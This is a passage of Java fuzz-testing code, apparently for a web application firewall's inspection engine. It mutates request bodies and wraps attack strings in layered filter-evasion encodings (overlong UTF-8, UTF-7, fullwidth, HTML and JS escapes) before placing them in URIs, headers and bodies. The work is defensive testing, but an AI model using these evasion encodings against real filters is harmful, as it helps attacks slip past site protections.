            return new InspectionInput(method, uri, hs, body, r.nextInt(20) == 0);
        }

        byte[] mutateBody(SplittableRandom r, byte[] body, List<Map.Entry<String, String>> hs) {
            int op = r.nextInt(8);
            if (op == 0) {
                // switch or garble the declared content type
                hs.removeIf(h -> "content-type".equalsIgnoreCase(h.getKey()));
                String ct = pick(r, CONTENT_TYPES);
                if (ct.startsWith("multipart")) {
                    ct += "; boundary=" + randomBoundary(r);
                }
                hs.add(WafFuzzSupport.header("Content-Type", ct));
                return body;
            }
            if (op == 1) {
                // deep nesting of brackets somewhere in the body
                String open = pick(r, new String[]{"[", "{", "{\"a\":", "[{\"a\":[", "<a>", "(", "${"});
                int d = 1 + r.nextInt(r.nextInt(6) == 0 ? 50_000 : 200);
                return insert(r, body, open.repeat(d).getBytes(StandardCharsets.UTF_8));
            }
            if (op == 2) {
                // a huge number of parameters / parts
                String unit = pick(r, new String[]{"&a=1", "&", "&=", "a&", "&%27=%3C", ";c=1", "\r\n--x\r\n\r\n", "--"});
                return insert(r, body, unit.repeat(1 + r.nextInt(20_000)).getBytes(StandardCharsets.UTF_8));
            }
            if (op == 3) {
                // truncate (unterminated multipart, JSON, XML)
                return body.length == 0 ? body : java.util.Arrays.copyOf(body, r.nextInt(body.length));
            }
            if (op == 4) {
                // overlong and invalid UTF-8 sequences, raw
                byte[][] seqs = {{(byte) 0xC0, (byte) 0xAE}, {(byte) 0xE0, (byte) 0x80, (byte) 0xAE},
                    {(byte) 0xF0, (byte) 0x80, (byte) 0x80, (byte) 0xAE}, {(byte) 0xF8, (byte) 0x80, (byte) 0x80, (byte) 0x80, (byte) 0xAE},
                    {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
                    {(byte) 0xC0}, {(byte) 0xFF}, {(byte) 0xFE, (byte) 0xFF}, {(byte) 0x80}, {0}};
                return insert(r, body, seqs[r.nextInt(seqs.length)]);
            }
            return mutateBytes(r, body);
        }

        String mutateString(SplittableRandom r, String s) {
            StringBuilder sb = new StringBuilder(s);
            int len = sb.length();
            int at = r.nextInt(len + 1);
            switch (r.nextInt(9)) {
                case 0 -> {
                    if (len > 0) {
                        int i = r.nextInt(len);
                        sb.setCharAt(i, (char) (sb.charAt(i) ^ (1 << r.nextInt(r.nextInt(4) == 0 ? 16 : 8))));
                    }
                }
                case 1 -> {
                    if (len > 0) {
                        sb.setCharAt(r.nextInt(len), (char) r.nextInt(r.nextBoolean() ? 0x100 : 0x10000));
                    }
                }
                case 2, 3 -> sb.insert(at, pick(r, TOKENS));
                case 4 -> {
                    int e = Math.min(len, at + r.nextInt(32));
                    sb.delete(at, e);
                }
                case 5 -> {
                    int e = Math.min(len, at + 1 + r.nextInt(16));
                    String span = sb.substring(at, e);
                    sb.insert(e, span.repeat(1 + r.nextInt(r.nextInt(8) == 0 ? 2000 : 8)));
                }
                case 6 -> sb.insert(at, pick(r, TOKENS).repeat(1 + r.nextInt(r.nextInt(8) == 0 ? 5000 : 10)));
                case 7 -> sb.insert(at, randomString(r, 24));
                default -> sb.insert(at, encode(r, pick(r, ATTACKS), 1 + r.nextInt(3)));
            }
            return sb.toString();
        }

        byte[] mutateBytes(SplittableRandom r, byte[] b) {
            String s = new String(b, StandardCharsets.ISO_8859_1);
            if (r.nextInt(3) == 0 && b.length > 0) {
                byte[] c = b.clone();
                int flips = 1 + r.nextInt(8);
                for (int i = 0; i < flips; i++) {
                    c[r.nextInt(c.length)] ^= (byte) (1 << r.nextInt(8));
                }
                return c;
            }
            // strings mutate over Latin-1 so every byte value survives; chars above 0xFF become UTF-8 bytes
            String m = mutateString(r, s);
            return latin1OrUtf8(m);
        }

        static byte[] latin1OrUtf8(String m) {
            for (int i = 0; i < m.length(); i++) {
                if (m.charAt(i) > 0xFF) {
                    return m.getBytes(StandardCharsets.UTF_8);
                }
            }
            return m.getBytes(StandardCharsets.ISO_8859_1);
        }

        static byte[] insert(SplittableRandom r, byte[] body, byte[] what) {
            int at = r.nextInt(body.length + 1);
            byte[] out = new byte[body.length + what.length];
            System.arraycopy(body, 0, out, 0, at);
            System.arraycopy(what, 0, out, at, what.length);
            System.arraycopy(body, at, out, at + what.length, body.length - at);
            return out;
        }

        static String splice(SplittableRandom r, String a, String b) {
            return a.substring(0, r.nextInt(a.length() + 1)) + b.substring(r.nextInt(b.length() + 1));
        }

        static byte[] splice(SplittableRandom r, byte[] a, byte[] b) {
            int ca = r.nextInt(a.length + 1);
            int cb = r.nextInt(b.length + 1);
            byte[] out = new byte[ca + b.length - cb];
            System.arraycopy(a, 0, out, 0, ca);
            System.arraycopy(b, cb, out, ca, b.length - cb);
            return out;
        }

        // ---- (c) encodings applied repeatedly

        static final String[] ENCODERS = {"url-all", "url-special", "url-percent", "%u", "html-dec", "html-hex",
            "html-named", "base64", "base64url", "js-unicode", "js-hex", "fullwidth", "utf7", "overlong", "plus"};

        static final Map<String, BiFunction<SplittableRandom, String, String>> ENCODE = new LinkedHashMap<>();

        static {
            ENCODE.put("url-all", (r, s) -> {
                StringBuilder sb = new StringBuilder();
                for (byte b : s.getBytes(StandardCharsets.UTF_8)) {
                    sb.append(String.format(r.nextBoolean() ? "%%%02X" : "%%%02x", b & 0xFF));
                }
                return sb.toString();
            });
            ENCODE.put("url-special", (r, s) -> {
                StringBuilder sb = new StringBuilder();
                for (byte b : s.getBytes(StandardCharsets.UTF_8)) {
                    int c = b & 0xFF;
                    if (c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9') {
                        sb.append((char) c);
                    } else {
                        sb.append(String.format("%%%02X", c));
                    }
                }
                return sb.toString();
            });
            ENCODE.put("url-percent", (r, s) -> s.replace("%", "%25"));
            ENCODE.put("%u", (r, s) -> {
                StringBuilder sb = new StringBuilder();
                for (int i = 0; i < s.length(); i++) {
                    sb.append(String.format("%%u%04X", (int) s.charAt(i)));
                }
                return sb.toString();
            });
            ENCODE.put("html-dec", (r, s) -> {
                StringBuilder sb = new StringBuilder();
                for (int i = 0; i < s.length(); i++) {
                    sb.append("&#").append(r.nextInt(4) == 0 ? "000" : "").append((int) s.charAt(i)).append(r.nextBoolean() ? ";" : "");
                }
                return sb.toString();
            });
            ENCODE.put("html-hex", (r, s) -> {
                StringBuilder sb = new StringBuilder();
                for (int i = 0; i < s.length(); i++) {
                    sb.append(r.nextBoolean() ? "&#x" : "&#X").append(Integer.toHexString(s.charAt(i))).append(';');
                }
                return sb.toString();
            });
            ENCODE.put("html-named", (r, s) -> s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
                    .replace("\"", "&quot;").replace("'", "&apos;").replace(":", "&colon;").replace("(", "&lpar;"));
            ENCODE.put("base64", (r, s) -> Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.UTF_8)));
            ENCODE.put("base64url", (r, s) -> Base64.getUrlEncoder().withoutPadding().encodeToString(s.getBytes(StandardCharsets.UTF_8)));
            ENCODE.put("js-unicode", (r, s) -> {
                StringBuilder sb = new StringBuilder();
                for (int i = 0; i < s.length(); i++) {
                    sb.append(String.format(r.nextBoolean() ? "\\u%04x" : "\\U%04X", (int) s.charAt(i)));
                }
                return sb.toString();
            });
            ENCODE.put("js-hex", (r, s) -> {
                StringBuilder sb = new StringBuilder();
                for (int i = 0; i < s.length(); i++) {
                    char c = s.charAt(i);
                    sb.append(c < 0x100 ? String.format("\\x%02x", (int) c) : String.valueOf(c));
                }
                return sb.toString();
            });
            ENCODE.put("fullwidth", (r, s) -> {
                StringBuilder sb = new StringBuilder();
                for (int i = 0; i < s.length(); i++) {
                    char c = s.charAt(i);
                    sb.append(c >= 0x21 && c <= 0x7E ? (char) (c - 0x21 + 0xFF01) : c);
                }
                return sb.toString();
            });
            ENCODE.put("utf7", (r, s) -> s.replace("<", "+ADw-").replace(">", "+AD4-").replace("\"", "+ACI-"));
            ENCODE.put("overlong", (r, s) -> {
                StringBuilder sb = new StringBuilder();
                for (int i = 0; i < s.length(); i++) {
                    char c = s.charAt(i);
                    if (c < 0x80 && !Character.isLetterOrDigit(c)) {
                        sb.append(String.format("%%%02x%%%02x", 0xC0 | (c >> 6), 0x80 | (c & 0x3F)));
                    } else {
                        sb.append(c);
                    }
                }
                return sb.toString();
            });
            ENCODE.put("plus", (r, s) -> s.replace(' ', '+'));
        }

        static String encode(SplittableRandom r, String s, int times) {
            for (int i = 0; i < times && s.length() < 64 * 1024; i++) {
                s = ENCODE.get(ENCODERS[r.nextInt(ENCODERS.length)]).apply(r, s);
            }
            return s;
        }

        InspectionInput encoded(SplittableRandom r) {
            String payload;
            if (!corpus.isEmpty() && r.nextBoolean()) {
                // a decoded value of a corpus request (its attack as the engine sees it)
                List<Value> vs = Targets.parse(corpusRequest(r)).values;
                payload = vs.isEmpty() ? pick(r, ATTACKS) : vs.get(r.nextInt(vs.size())).dec();
                if (payload.length() > 2048) {
                    payload = payload.substring(0, 2048);
                }
            } else {
                payload = r.nextInt(4) == 0 ? randomString(r, 40) : pick(r, ATTACKS);
            }
            String enc;
            if (r.nextBoolean()) {
                // one encoder, many times
                String e = ENCODERS[r.nextInt(ENCODERS.length)];
                int times = 1 + r.nextInt(e.startsWith("url-percent") || e.equals("html-named") ? 40 : 6);
                enc = payload;
                for (int i = 0; i < times && enc.length() < 64 * 1024; i++) {
                    enc = ENCODE.get(e).apply(r, enc);
                }
            } else {
                enc = encode(r, payload, 1 + r.nextInt(8));
            }
            return place(r, enc);
        }

        /** {@code v} put verbatim into one place of a plain browser request. */
        InspectionInput place(SplittableRandom r, String v) {
            List<Map.Entry<String, String>> hs = new ArrayList<>(List.of(WafFuzzSupport.header("Host", "localhost"),
                    WafFuzzSupport.header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0"),
                    WafFuzzSupport.header("Accept", "*/*")));
            String uri = "/app/page";
            String method = "GET";
            byte[] body = new byte[0];
            switch (r.nextInt(10)) {
                case 0 -> uri = "/app/page?q=" + v;
                case 1 -> uri = "/app/" + v + "/x";
                case 2 -> uri = "/app/page?" + v + "=1&b=2";
                case 3 -> hs.add(WafFuzzSupport.header(pick(r, new String[]{"X-Data", "User-Agent", "Referer", "X-Filename"}), v));
                case 4 -> hs.add(WafFuzzSupport.header("Cookie", "a=1; s=" + v + "; b"));
                case 5 -> {
                    method = "POST";
                    hs.add(WafFuzzSupport.header("Content-Type", "application/x-www-form-urlencoded"));
                    body = ("a=1&q=" + v).getBytes(StandardCharsets.UTF_8);
                }
                case 6 -> {
                    method = "POST";
                    hs.add(WafFuzzSupport.header("Content-Type", "application/json"));
                    String js = v.replace("\\", "\\\\").replace("\"", "\\\"");
                    body = ("{\"q\":\"" + js + "\",\"" + js + "\":[1]}").getBytes(StandardCharsets.UTF_8);
                }
                case 7 -> {
                    method = "POST";
                    hs.add(WafFuzzSupport.header("Content-Type", "text/xml"));
                    body = ("<a x=\"" + v + "\">" + v + "<![CDATA[" + v + "]]></a>").getBytes(StandardCharsets.UTF_8);
                }
                case 8 -> {
                    method = "POST";
                    hs.add(WafFuzzSupport.header("Content-Type", "multipart/form-data; boundary=xYz"));
                    body = ("--xYz\r\nContent-Disposition: form-data; name=\"q\"; filename=\"" + v + "\"\r\n\r\n" + v
                            + "\r\n--xYz--\r\n").getBytes(StandardCharsets.UTF_8);
                }
                default -> {
                    method = "POST";
                    hs.add(WafFuzzSupport.header("Content-Type", "text/plain"));
                    body = v.getBytes(StandardCharsets.UTF_8);
                }
            }
            return new InspectionInput(method, uri, hs, body, false);
        }

        static String pick(SplittableRandom r, String[] a) {
            return a[r.nextInt(a.length)];
        }
    }
}
